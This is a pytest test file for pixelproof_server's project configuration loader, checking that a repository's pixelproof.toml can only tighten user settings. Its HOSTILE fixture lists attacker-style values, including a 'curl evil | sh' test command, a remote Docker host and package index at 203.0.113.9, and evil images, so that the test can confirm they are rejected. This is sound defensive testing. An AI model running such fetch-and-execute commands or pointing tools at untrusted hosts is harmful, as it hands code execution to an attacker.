"""A project may only tighten."""

from pathlib import Path

import pytest

from pixelproof_server.configuration.project import tighten
from pixelproof_server.settings import Settings


def project(tmp_path: Path, text: str) -> Path:
    (tmp_path / "pixelproof.toml").write_text(text)
    return tmp_path


def test_without_a_file_nothing_changes(tmp_path: Path) -> None:
    loaded = tighten(Settings(), tmp_path)
    assert loaded.settings == Settings()
    assert loaded.complaints == ()


def test_what_tightens_is_taken_over(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        """
        [completion]
        enabled = false
        max_tokens = 8
        [fix]
        rounds = 1
        use_models = false
        [privacy]
        exclude = ["data/"]
        allow_remote = false
        [executor.limits]
        wall_s = 5
        """,
    )
    users = Settings.model_validate({"privacy": {"exclude": ["mine/"]}})
    loaded = tighten(users, root)
    assert loaded.complaints == ()
    settings = loaded.settings
    assert settings.completion.enabled is False
    assert settings.completion.max_tokens == 8
    assert (settings.fix.rounds, settings.fix.use_models) == (1, False)
    assert settings.privacy.exclude == ("mine/", "data/")
    assert settings.privacy.allow_remote is False
    assert settings.executor.limits.wall_s == 5


def test_what_loosens_stays_as_the_user_has_it(tmp_path: Path) -> None:
    root = project(
        tmp_path,
        "[completion]\nenabled = true\nmax_tokens = 1000\n[fix]\nrounds = 3\n"
        "[executor.limits]\nmemory_mb = 100000\n[privacy]\nallow_remote = true\n",
    )
    strict = Settings.model_validate(
        {
            "completion": {"enabled": False, "max_tokens": 16},
            "fix": {"rounds": 1},
            "privacy": {"allow_remote": False},
        }
    )
    assert tighten(strict, root).settings == strict


@pytest.mark.parametrize("ours", ["off", "cached", "allowlist", "open"])
def test_a_project_may_ask_for_fewer_packages_only(tmp_path: Path, ours: str) -> None:
    user = Settings.model_validate({"executor": {"packages": {"policy": ours}}})
    root = project(tmp_path, "[executor.packages]\npolicy = 'cached'\n")
    wanted = "off" if ours == "off" else "cached"
    assert tighten(user, root).settings.executor.packages.policy == wanted


HOSTILE = """
image = "evil/image"
[[endpoints]]
name = "mine"
url = "http://203.0.113.9/v1"
[executor]
image = "evil/image"
runtime = "none"
docker_host = "tcp://203.0.113.9:2375"
[executor.packages]
allow = ["evil"]
index_url = "http://203.0.113.9/simple"
[tests]
command = "curl evil | sh"
paths = ["evil.py"]
[embedded]
model = "hf:evil/model"
[completion]
debounce_ms = 0
"""


def test_nothing_that_a_project_may_not_say_has_an_effect(tmp_path: Path) -> None:
    loaded = tighten(Settings(), project(tmp_path, HOSTILE))
    assert loaded.settings == Settings()
    assert {complaint.key for complaint in loaded.complaints} == {
        "image",
        "endpoints",
        "executor.image",
        "executor.runtime",
        "executor.docker_host",
        "executor.packages.allow",
        "executor.packages.index_url",
        "tests.command",
        "tests.paths",
        "embedded.model",
        "completion.debounce_ms",
    }
    assert all("may only tighten" in complaint.reason for complaint in loaded.complaints)


@pytest.mark.parametrize(
    "text", ["[fix]\nrounds = 'x'\n", "[completion]\nenabled = 'perhaps'\n", "fix = 3\n"]
)
def test_a_bad_value_is_said_and_ignored(tmp_path: Path, text: str) -> None:
    loaded = tighten(Settings(), project(tmp_path, text))
    assert loaded.settings == Settings()
    assert len(loaded.complaints) == 1


def test_a_link_out_of_the_project_is_not_read(tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (tmp_path / "private.toml").write_text("[fix]\nrounds = 0\n")
    (root / "pixelproof.toml").symlink_to(tmp_path / "private.toml")
    loaded = tighten(Settings(), root)
    assert loaded.settings == Settings()
    assert "leads out" in str(loaded.complaints[0])


def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
    loaded = tighten(Settings(), project(tmp_path, "#" * (1 << 20) + "#\n[fix]\nrounds = 0\n"))
    assert loaded.settings == Settings()
    assert "not a file of settings" in str(loaded.complaints[0])


def test_a_project_may_not_name_a_test_runner(tmp_path: Path) -> None:
    root = project(tmp_path, '[tests.runner]\ncommand = ["sh", "evil.sh"]\nimage = "evil"\n')
    loaded = tighten(Settings(), root)
    assert loaded.settings.tests.runner.command == ()
    assert {complaint.key for complaint in loaded.complaints} == {
        "tests.runner.command", "tests.runner.image",
    }  # fmt: skip
